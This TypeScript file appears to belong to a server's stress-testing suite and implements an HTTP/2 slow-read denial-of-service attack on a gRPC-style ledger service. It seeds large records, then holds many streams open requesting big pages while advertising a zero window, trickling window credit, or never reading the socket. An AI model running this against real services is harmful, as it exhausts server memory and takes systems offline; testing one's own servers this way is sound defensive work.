// Callers over HTTP/2 that ask for large pages and do not read them: with a window of zero, a little of it now and then, or
// a socket that nobody reads.

import { SETTING } from '../../../bench/http2-frames.ts';
import { begin, update } from '../../http2-server/raw-frames.ts';
import { type Attack, keepOpen, wait } from '../attacker/attack.ts';
import { callBlock, ends, finish, openPeer } from '../attacker/http2-peer.ts';
import { dialAs, record } from '../attacker/recorded-tasks.ts';
import { type Form, writeRequest } from '../attacker/requests.ts';
import { tally } from '../attacker/tally.ts';

/** What is taken at a time by a reader that is slow. */
const SLOW_BYTES = 16_384;
const LARGE_EXTENSION = JSON.stringify({ note: 'x'.repeat(4_000) });

/**
 * Options: `form` (`grpc`, `grpc-web` or `connect`), `connections`, `streams` on each, `reader` (`zero-window`, `slow` or
 * `socket`), `everyMs` of the slow one, `entries` that are recorded before.
 */
export const attack: Attack = async ({ target, preparer, options }) => {
  const { form, connections, streams, reader, everyMs = 50_000, entries = 500 } = options;
  using client = dialAs(preparer);
  await record(
    client,
    Array.from({ length: Number(entries) }, () => ({ ect_ext_json: LARGE_EXTENSION })),
  );
  const content = form === 'connect' ? '{"pageSize":1000}' : Buffer.from([0x48, 0xe8, 0x07]);
  const request = writeRequest({ method: 'ect.v1.LedgerService/ListEntries', content }, form as Form);
  const block = callBlock(target, request.path, String(request.headers['content-type']));
  const window = reader === 'zero-window' ? 0 : reader === 'slow' ? SLOW_BYTES : 2 ** 31 - 1;
  return (until) =>
    keepOpen(Number(connections), until, async () => {
      let missing = Number(streams);
      const opened: number[] = [];
      const peer = await openPeer(target, {
        settings: [[SETTING.initialWindowSize, window]],
        reads: reader === 'socket' ? 'no' : 'without-credit',
        onFrame: (frame) => {
          if (ends(frame)) missing++;
        },
      });
      let nextTaste = Date.now() + Number(everyMs);
      while (!until.aborted && !peer.isClosed()) {
        tally('calls', missing);
        for (; missing > 0; missing--) {
          const id = peer.nextId();
          opened.push(id);
          peer.send(begin(id, block), finish(id, request.body));
        }
        if (reader === 'slow' && Date.now() > nextTaste) {
          nextTaste += Number(everyMs);
          for (const id of opened) peer.send(update(id, SLOW_BYTES), update(0, SLOW_BYTES));
        }
        await Promise.race([wait(250, until), peer.closed]);
      }
    });
};
